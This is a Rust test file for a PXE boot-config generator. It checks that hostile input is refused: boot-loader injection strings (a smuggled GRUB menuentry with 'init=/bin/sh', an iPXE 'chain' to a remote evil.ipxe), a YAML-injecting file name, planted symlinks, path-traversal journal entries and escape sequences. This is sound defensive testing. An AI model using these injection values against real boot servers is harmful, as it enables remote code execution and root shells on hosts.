//! Hostile input (issue 17): values cannot inject boot-loader syntax, no input crashes or blows
//! up, nothing is silently skipped, and each wrong result found by attacking pxebake stays fixed.

mod common;

use std::fs;
use std::path::Path;
use std::process::Command;

use common::*;

fn build(dir: &Path) -> std::process::Output {
    run(dir, &["build", "--no-images", "--no-bootloaders"])
}

/// The example site with a global attribute `extra` spliced at the end of both kernel bootactions.
fn site_with_extra(extra: &str) -> tempfile::TempDir {
    let dir = example_site();
    let path = dir.path().join("inventory/site.yaml");
    let site = fs::read_to_string(&path).unwrap();
    let site = site
        .replace("console=ttyS0,115200n8\"", "console=ttyS0,115200n8 {{ attributes.extra }}\"")
        .replace("attributes:   ", &format!("attributes:\n  extra: {}\n  ", serde_json::to_string(extra).unwrap()));
    fs::write(&path, site).unwrap();
    dir
}

#[test]
fn bootloader_metacharacters_in_an_attribute_spliced_into_args_are_refused() {
    // (value, loader named in the message, character named)
    let cases = [
        ("console=tty0; }; menuentry \"x\" { linux /k init=/bin/sh", "GRUB", "`;`"),
        ("}", "GRUB", "`}`"),
        ("a=\"b", "GRUB", "`\"`"),
        ("a='b", "GRUB", "`'`"),
        ("x || y", "GRUB", "`|`"),
        ("x || y", "iPXE", "`||`"),
        ("x && y", "iPXE", "`&&`"),
        ("; chain http://10.9.9.9/evil.ipxe", "iPXE", "`;`"),
        ("mac=${net0/mac}", "GRUB", "`$`"),
        ("mac=${net0/mac}", "iPXE", "`${`"),
        ("#", "GRUB", "`#`"),
        ("#", "iPXE", "`#`"),
        ("a\\b", "GRUB", "`\\`"),
        ("a>b", "GRUB", "`>`"),
    ];
    for (value, loader, ch) in cases {
        let dir = site_with_extra(value);
        let site = fs::read_to_string(dir.path().join("inventory/site.yaml")).unwrap();
        let coreos = 1 + site.lines().position(|l| l.starts_with("  coreos:")).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{value}: {err}");
        // The bootaction's own line, the host, the loader and the character.
        let line = err
            .lines()
            .find(|l| {
                l.starts_with(&format!(
                    "error: inventory/site.yaml:{coreos}: bootaction `coreos` args rendered for host `backend-0-0`"
                ))
            })
            .unwrap_or_else(|| panic!("{value}: {err}"));
        assert!(line.contains(&format!("{loader}: ")) && line.contains(ch), "{value}: {line}");
        assert!(!dir.path().join("out").exists(), "nothing is written");
    }
}

#[test]
fn harmless_kernel_arguments_still_build() {
    let dir = site_with_extra("ip=dhcp rd.neednet=1 url=http://10.2.1.1/a?b=c,d:e/f+g%20 x=#y");
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
}

/// A user's own template that puts a value straight on the kernel line, past the args check.
#[test]
fn an_overridden_template_cannot_inject_either() {
    let dir = example_site();
    let grub = fs::read_to_string(dir.path().join("templates/grub-host.cfg")).unwrap();
    fs::write(
        dir.path().join("templates/grub-host.cfg"),
        grub.replace("{{ bootaction.args }}", "{{ bootaction.args }} {{ host.attributes.evil | default(value=\"\") }}"),
    )
    .unwrap();
    let ipxe = fs::read_to_string(dir.path().join("templates/ipxe-host.ipxe")).unwrap();
    fs::write(
        dir.path().join("templates/ipxe-host.ipxe"),
        ipxe.replace("{{ bootaction.args }}", "{{ bootaction.args }} {{ host.attributes.evil | default(value=\"\") }}"),
    )
    .unwrap();
    let hosts = fs::read_to_string(dir.path().join("inventory/hosts.yaml")).unwrap();
    let hosts = hosts.replacen(
        "  - name: backend-0-0\n",
        "  - name: backend-0-0\n    attributes: { evil: \"} ; chain http://10.9.9.9/x\" }\n",
        1,
    );
    fs::write(dir.path().join("inventory/hosts.yaml"), hosts).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("error: tftp/grub/grub.cfg-01-52-54-00-00-00-00:5: GRUB `linux` line: `}` carries `}`, which is GRUB script syntax"),
        "{err}"
    );
    assert!(
        err.contains(
            "error: http/ipxe/52-54-00-00-00-00.ipxe:3: iPXE `kernel` line: token `;` ends the command in iPXE"
        ),
        "{err}"
    );
    assert!(!err.contains("backend-0-1"), "only the hostile host is concerned: {err}");
}

/// Every GRUB config of the example site parses with GRUB's own script checker.
#[test]
fn every_generated_grub_config_passes_grub_script_check() {
    let checker = Command::new("grub-script-check").arg("--help").output();
    assert!(
        checker.is_ok(),
        "grub-script-check is missing: install Debian package grub-common (listed in .ci/run) to run this test"
    );
    let dir = example_site();
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let grub_dir = dir.path().join("out/tftp/grub");
    let mut checked = 0;
    for e in fs::read_dir(&grub_dir).unwrap() {
        let path = e.unwrap().path();
        if !path.file_name().unwrap().to_string_lossy().starts_with("grub.cfg") {
            continue;
        }
        let o = Command::new("grub-script-check").arg(&path).output().unwrap();
        assert!(o.status.success(), "{}: {}{}", path.display(), stderr(&o), stdout(&o));
        checked += 1;
    }
    assert!(checked >= 9, "site config and two names per PXE host: {checked}");
}

/// iPXE's own rules (src/core/exec.c): white-space tokens; `||`, `&&`, `;` end a command; a token
/// starting with `#` is a comment. Written here independently of pxebake's checker.
fn ipxe_commands(text: &str) -> Vec<Vec<String>> {
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("#!ipxe"), "{text}");
    let mut commands = Vec::new();
    for line in lines {
        let mut current: Vec<String> = Vec::new();
        for token in line.split_whitespace() {
            if token.starts_with('#') {
                break;
            }
            if matches!(token, "||" | "&&" | ";") {
                commands.push(std::mem::take(&mut current));
                continue;
            }
            current.push(token.to_string());
        }
        if !current.is_empty() {
            commands.push(current);
        }
    }
    commands
}

#[test]
fn every_generated_ipxe_script_has_one_command_per_value_line() {
    let dir = example_site();
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let mut checked = 0;
    for e in fs::read_dir(dir.path().join("out/http/ipxe")).unwrap() {
        let path = e.unwrap().path();
        let text = fs::read_to_string(&path).unwrap();
        let commands = ipxe_commands(&text);
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name == "boot.ipxe" || name == "default.ipxe" {
            continue; // site scripts without values
        }
        // A host script: exactly `kernel URL args...`, `initrd URL`, `boot` - or `exit`.
        let verbs: Vec<&str> = commands.iter().map(|c| c[0].as_str()).collect();
        assert!(verbs == ["kernel", "initrd", "boot"] || verbs == ["exit"], "{name}: {verbs:?}");
        for c in &commands {
            for arg in &c[1..] {
                assert!(!arg.contains("${"), "{name}: setting expansion in {arg}");
            }
        }
        checked += 1;
    }
    assert!(checked >= 4, "{checked}");
}

fn mkfifo(path: &Path) {
    let o = Command::new("mkfifo").arg(path).output().unwrap();
    assert!(o.status.success(), "mkfifo: {}", stderr(&o));
}

/// Runs `check` with a timeout: a FIFO must not make pxebake wait forever.
fn check_within(dir: &Path, secs: u64) -> std::process::Output {
    let mut child = bin()
        .current_dir(dir)
        .args(["check"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed().as_secs() > secs {
            child.kill().unwrap();
            panic!("pxebake hung for {secs} s");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

#[test]
fn unreadable_inventory_entries_are_errors_not_skipped() {
    let dir = example_site();
    let inv = dir.path().join("inventory");
    std::os::unix::fs::symlink("/mnt/unmounted-share/rack1.yaml", inv.join("rack1.yaml")).unwrap();
    std::os::unix::fs::symlink("loop-b.yaml", inv.join("loop-a.yaml")).unwrap();
    std::os::unix::fs::symlink("loop-a.yaml", inv.join("loop-b.yaml")).unwrap();
    mkfifo(&inv.join("rack2.yaml"));
    fs::create_dir(inv.join("rack3.yaml")).unwrap();
    let o = check_within(dir.path(), 20);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains(
            "error: inventory/rack1.yaml: inventory file is a symlink that does not resolve (dangling, or a link loop)"
        ),
        "{err}"
    );
    assert!(err.contains("error: inventory/loop-a.yaml: inventory file is a symlink that does not resolve"), "{err}");
    assert!(err.contains("error: inventory/loop-b.yaml: inventory file is a symlink that does not resolve"), "{err}");
    assert!(err.contains("error: inventory/rack2.yaml: inventory file is a FIFO, not a regular file"), "{err}");
    assert!(err.contains("error: inventory/rack3.yaml: inventory file is a directory, not a regular file"), "{err}");
}

#[test]
fn unreadable_template_entries_are_errors_and_a_fifo_does_not_hang() {
    let dir = example_site();
    let t = dir.path().join("templates");
    mkfifo(&t.join("pipe.cfg"));
    std::os::unix::fs::symlink("gone.cfg", t.join("dangling.cfg")).unwrap();
    let o = check_within(dir.path(), 20);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("error: templates/pipe.cfg: template is a FIFO, not a regular file"), "{err}");
    assert!(err.contains("error: templates/dangling.cfg: template is a symlink that does not resolve"), "{err}");
}

#[test]
fn a_missing_inventory_directory_exits_2() {
    let dir = tempfile::tempdir().unwrap();
    let o = run(dir.path(), &["check", "--inventory", "no-such-dir"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("error: no-such-dir: the inventory directory does not exist; pass --inventory DIR"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_utf8_byte_order_mark_is_accepted() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let text = fs::read_to_string(&p).unwrap();
    fs::write(&p, format!("\u{feff}{text}")).unwrap();
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn invalid_utf8_is_reported_with_file_and_line_and_exits_2() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let mut bytes = fs::read(&p).unwrap();
    let at = bytes.windows(11).position(|w| w == b"backend-0-1").unwrap();
    bytes[at] = 0xe9;
    let line = 1 + bytes[..at].iter().filter(|b| **b == b'\n').count();
    fs::write(&p, bytes).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!(
            "error: inventory/hosts.yaml:{line}: inventory file invalid UTF-8 (byte 0xe9 at column 11)"
        )),
        "{err}"
    );
}

#[test]
fn a_template_may_include_or_extend_one_whose_name_sorts_after_it() {
    let dir = example_site();
    let t = dir.path().join("templates");
    fs::write(t.join("a-base.yaml"), "#cloud-config\n{% block body %}{% endblock body %}\n").unwrap();
    fs::write(
        t.join("cloud-config.yaml"),
        "{% extends \"z-layout.yaml\" %}{% block body %}hostname: {{ host.name }}\n{% include \"zz-keys.yaml\" %}{% endblock body %}",
    )
    .unwrap();
    fs::write(t.join("z-layout.yaml"), "#cloud-config\n{% block body %}{% endblock body %}\n").unwrap();
    fs::write(t.join("zz-keys.yaml"), "ssh_authorized_keys: {{ attributes.ssh_authorized_keys | json }}\n").unwrap();
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let cc = fs::read_to_string(dir.path().join("out/http/coreos/backend-0-0.yaml")).unwrap();
    assert!(cc.starts_with("#cloud-config\nhostname: backend-0-0\nssh_authorized_keys: [\"ssh-ed25519 "), "{cc}");
}

#[test]
fn an_attributes_mapping_with_100000_keys_loads_in_linear_time() {
    let dir = example_site();
    let extra: String = (0..100_000).map(|i| format!("  key{i}: {i}\n")).collect();
    fs::write(dir.path().join("inventory/more.yaml"), format!("attributes:\n{extra}")).unwrap();
    // Quadratic duplicate detection took over 30 s here (timed in `make bench`, not here).
    let o = run(dir.path(), &["list", "host"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let dup = format!("attributes:\n{extra}  key7: again\n");
    fs::write(dir.path().join("inventory/more.yaml"), dup).unwrap();
    let o = run(dir.path(), &["list", "host"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("error: inventory/more.yaml:100002: duplicate key `key7`"), "{}", stderr(&o));
}

/// An 80,000-row hostfile: `n` hosts on the example's private network.
fn big_hostfile(n: usize) -> String {
    let mut s = String::from("NAME,APPLIANCE,MAC,NETWORK\n");
    for i in 0..n {
        s.push_str(&format!(
            "h{i},backend,52:54:01:{:02x}:{:02x}:{:02x},private\n",
            (i >> 16) & 255,
            (i >> 8) & 255,
            i & 255
        ));
    }
    s
}

#[test]
fn importing_an_80000_row_hostfile_works() {
    let dir = example_site();
    fs::write(dir.path().join("small.csv"), big_hostfile(20_000)).unwrap();
    fs::write(dir.path().join("big.csv"), big_hostfile(80_000)).unwrap();
    // The import was quadratic (80k rows: 25 s); its time is not asserted here (no timed tests).
    for (file, n) in [("small.csv", 20_000), ("big.csv", 80_000)] {
        let o = run(dir.path(), &["import", "hostfile", file]);
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(stdout(&o).matches("  - name: h").count(), n);
    }
}

#[test]
fn a_hostfile_name_with_newlines_cannot_inject_yaml() {
    let dir = example_site();
    let name = "x.csv\nbootactions:\n  evil: { localboot: 0 }\n#";
    fs::write(dir.path().join(name), "NAME,APPLIANCE,IP,MAC,NETWORK\nn1,backend,10.2.3.1,52:54:01:00:00:01,private\n")
        .unwrap();
    let o = run(dir.path(), &["import", "hostfile", name, "--out", "inventory/rack1.yaml"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let yaml = fs::read_to_string(dir.path().join("inventory/rack1.yaml")).unwrap();
    assert!(
        yaml.starts_with(
            "# Imported from x.csv\\nbootactions:\\n  evil: { localboot: 0 }\\n# by `pxebake import hostfile`"
        ),
        "{yaml}"
    );
    let o = run(dir.path(), &["list", "bootaction"]);
    assert!(!stdout(&o).contains("evil"), "{}", stdout(&o));
}

#[test]
fn a_mac_byte_with_a_plus_sign_is_rejected() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let hosts = fs::read_to_string(&p).unwrap().replace("52:54:00:00:00:01", "52:54:00:00:00:+f");
    fs::write(&p, hosts).unwrap();
    let o = build(dir.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("host `backend-0-1`: mac `52:54:00:00:00:+f` is not a MAC address"), "{}", stderr(&o));
}

#[test]
fn set_keeps_a_bootaction_named_null() {
    let dir = example_site();
    let p = dir.path().join("inventory/site.yaml");
    let site = fs::read_to_string(&p)
        .unwrap()
        .replace("  os:\n    localboot: 0\n", "  os:\n    localboot: 0\n  \"null\":\n    localboot: 1\n");
    fs::write(&p, site).unwrap();
    for args in [["set", "runaction", "backend-0-0", "null"], ["set", "boot", "backend-0-0", "os"]] {
        let o = run(dir.path(), &args);
        assert!(o.status.success(), "{}", stderr(&o));
    }
    let state = fs::read_to_string(dir.path().join("inventory/boot.yaml")).unwrap();
    assert!(state.contains("  backend-0-0: { boot: os, runaction: \"null\" }\n"), "{state}");
    let o = build(dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let cfg = fs::read_to_string(dir.path().join("out/tftp/pxelinux.cfg/01-52-54-00-00-00-00")).unwrap();
    assert!(cfg.contains("LOCALBOOT 1"), "the change is not lost: {cfg}");
}

#[test]
fn host_names_dnsmasq_reads_as_keywords_are_refused() {
    for name in ["ignore", "infinite", "12h", "30m", "3600"] {
        let dir = example_site();
        let p = dir.path().join("inventory/hosts.yaml");
        let hosts = fs::read_to_string(&p).unwrap().replace("name: backend-0-1\n", &format!("name: \"{name}\"\n"));
        fs::write(&p, hosts).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{name}: {err}");
        assert!(
            err.contains(&format!("inventory/hosts.yaml:23: host name `{name}` would be read by dnsmasq as a")),
            "{name}: {err}"
        );
    }
}

#[test]
fn a_site_root_with_glob_characters_or_too_long_is_refused() {
    for (root, expected) in [
        ("/srv/*".to_string(), "must not contain glob characters (`*`, `?`, `[`, `]`): nginx expands them"),
        ("/srv/p?x".to_string(), "must not contain glob characters"),
        ("/srv/[ab]".to_string(), "must not contain glob characters"),
        (format!("/{}", "a".repeat(950)), "is 951 bytes long; at most 512 fit on a dnsmasq config line"),
    ] {
        let dir = example_site();
        let p = dir.path().join("inventory/site.yaml");
        let site = fs::read_to_string(&p).unwrap().replace("root: /srv/pxebake", &format!("root: \"{root}\""));
        fs::write(&p, site).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{root}: {err}");
        assert!(err.contains("inventory/site.yaml:7: site.root: ") && err.contains(expected), "{root}: {err}");
    }
}

#[test]
fn diff_does_not_follow_links_planted_in_out() {
    let dir = example_site();
    assert!(build(dir.path()).status.success());
    let secret = dir.path().join("secret.txt");
    fs::write(&secret, "root:SECRET-HASH:19000:0:99999:7:::\n").unwrap();
    let out = dir.path().join("out");
    let planted = out.join("http/coreos/backend-0-0.yaml");
    fs::remove_file(&planted).unwrap();
    std::os::unix::fs::symlink(&secret, &planted).unwrap();
    let zero = out.join("http/coreos/backend-0-1.yaml");
    fs::remove_file(&zero).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    // A planted directory link: the file behind it must not be read either.
    let elsewhere = dir.path().join("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    fs::write(elsewhere.join("backend-0-0.yaml"), "SECRET-THROUGH-DIR\n").unwrap();
    fs::rename(out.join("http/install"), dir.path().join("install-moved")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, out.join("http/install")).unwrap();

    let mut child = bin()
        .current_dir(dir.path())
        .args(["diff", "--no-bootloaders"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed().as_secs() > 20 {
            child.kill().unwrap();
            panic!("diff read a planted /dev/zero link");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let o = child.wait_with_output().unwrap();
    let text = format!("{}{}", stdout(&o), stderr(&o));
    assert!(!text.contains("SECRET"), "{text}");
    assert!(
        text.contains(&format!("changed: http/coreos/backend-0-0.yaml (was a symlink -> {})", secret.display())),
        "{text}"
    );
    assert!(text.contains("changed: http/coreos/backend-0-1.yaml (was a symlink -> /dev/zero)"), "{text}");
}

#[test]
fn a_planted_journal_is_replayed_only_inside_the_tree() {
    let dir = example_site();
    assert!(build(dir.path()).status.success());
    let victim = dir.path().join("victim.txt");
    fs::write(&victim, "keep me\n").unwrap();
    let journal = dir.path().join(".out.pxebake-journal");
    for planted in ["D ../victim.txt\n", "D /tmp/x\n", "D http/./../../victim.txt\n", "X http/a\n"] {
        fs::write(&journal, planted).unwrap();
        let o = build(dir.path());
        let err = stderr(&o);
        assert!(!o.status.success(), "{planted}: {err}");
        assert!(
            err.contains("refusing to replay") && err.contains("pxebake writes no such journal"),
            "{planted}: {err}"
        );
        assert_eq!(fs::read_to_string(&victim).unwrap(), "keep me\n");
    }
    // Through a directory link planted in out/.
    std::os::unix::fs::symlink(dir.path(), dir.path().join("out/http/up")).unwrap();
    fs::write(&journal, "D http/up/victim.txt\n").unwrap();
    let err = stderr(&build(dir.path()));
    assert!(err.contains("goes through the symlink `http/up`"), "{err}");
    assert_eq!(fs::read_to_string(&victim).unwrap(), "keep me\n");
}

#[test]
fn messages_never_print_raw_escape_characters() {
    let dir = example_site();
    let p = dir.path().join("inventory/hosts.yaml");
    let hosts =
        fs::read_to_string(&p).unwrap().replacen("    rack: 0\n", "    \"\\e[31mevil\\r\": 1\n    rack: 0\n", 1);
    fs::write(&p, hosts).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\r'), "{err:?}");
    assert!(err.contains("unknown field `\\u{1b}[31mevil\\r`"), "{err}");
}

#[test]
fn parallel_set_runs_lose_no_update() {
    for trial in 0..3 {
        let dir = example_site();
        let children: Vec<_> = (0..5)
            .map(|i| {
                bin()
                    .current_dir(dir.path())
                    .args(["set", "boot", &format!("backend-0-{i}"), "os"])
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        for c in children {
            let o = c.wait_with_output().unwrap();
            assert!(o.status.success(), "{}", stderr(&o));
        }
        let state = fs::read_to_string(dir.path().join("inventory/boot.yaml")).unwrap();
        for i in 0..5 {
            assert!(state.contains(&format!("  backend-0-{i}: os\n")), "trial {trial}: backend-0-{i} lost:\n{state}");
        }
    }
}

#[test]
fn a_kernel_cannot_take_a_bootloaders_name_even_without_bootloaders() {
    let dir = example_site();
    let p = dir.path().join("inventory/site.yaml");
    let site = fs::read_to_string(&p).unwrap().replacen("kernel: vmlinuz.coreos", "kernel: pxelinux.0", 1);
    fs::write(&p, site).unwrap();
    let o = build(dir.path());
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    let line = 1 + fs::read_to_string(&p).unwrap().lines().position(|l| l.contains("kernel: pxelinux.0")).unwrap();
    assert!(
        err.contains(&format!("inventory/site.yaml:{line}: bootaction `coreos`: kernel `pxelinux.0` is the name of a bootloader in tftp/; choose another name")),
        "{err}"
    );
}
